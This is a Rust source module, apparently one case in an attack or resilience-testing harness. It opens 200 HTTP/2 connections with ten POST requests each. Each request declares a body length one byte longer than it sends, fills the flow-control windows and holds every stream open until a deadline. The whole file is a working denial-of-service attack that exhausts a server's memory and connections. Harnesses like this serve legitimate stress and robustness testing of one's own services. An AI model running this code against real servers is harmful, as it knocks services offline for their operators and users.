//! Bodies over HTTP/2 that fill every window and never end.

use std::rc::Rc;
use std::time::Instant;

use bytes::Bytes;
use tokio::task::LocalSet;

use super::*;
use crate::http2::Live;
use crate::place::Place;

const CONNECTIONS: usize = 200;
const REQUESTS: usize = 10;
const BODY_BYTES: usize = (1 << 20) - 1000;

pub(super) fn run(field: &Field) -> Result<Made> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let local = LocalSet::new();
    local.block_on(&runtime, attack(field))
}

async fn attack(field: &Field) -> Result<Made> {
    let mut made = Made::default();
    let body = Bytes::from(vec![b'x'; BODY_BYTES]);
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let live = Rc::new(Live::open(&Place::clear([field.address])).await?);
        made.connections += 1;
        for _ in 0..REQUESTS {
            let request = request(field, BODY_BYTES + 1)?;
            let Ok((answer, mut outgoing)) = live.request(request, None).await else { break };
            // The library sends it as the windows allow; the last byte never comes.
            if outgoing.send_data(body.clone(), false).is_err() {
                break;
            }
            held.push((answer, outgoing));
        }
    }
    made.open_max = made.connections;
    tokio::time::sleep(field.until().saturating_duration_since(Instant::now())).await;
    // What a stream may send without the server's leave counts as sent by it.
    made.note = format!("{} requests of {BODY_BYTES} bytes and one", held.len());
    Ok(made)
}

fn request(field: &Field, length: usize) -> Result<http::Request<()>> {
    let mut request =
        http::Request::post(format!("http://{}/v1/streams/abused/records", field.address))
            .header("content-type", "application/json")
            .header("content-length", length);
    for (name, value) in field.headers.lines().filter_map(|line| line.split_once(": ")) {
        if name != "host" {
            request = request.header(name, value);
        }
    }
    Ok(request.body(())?)
}
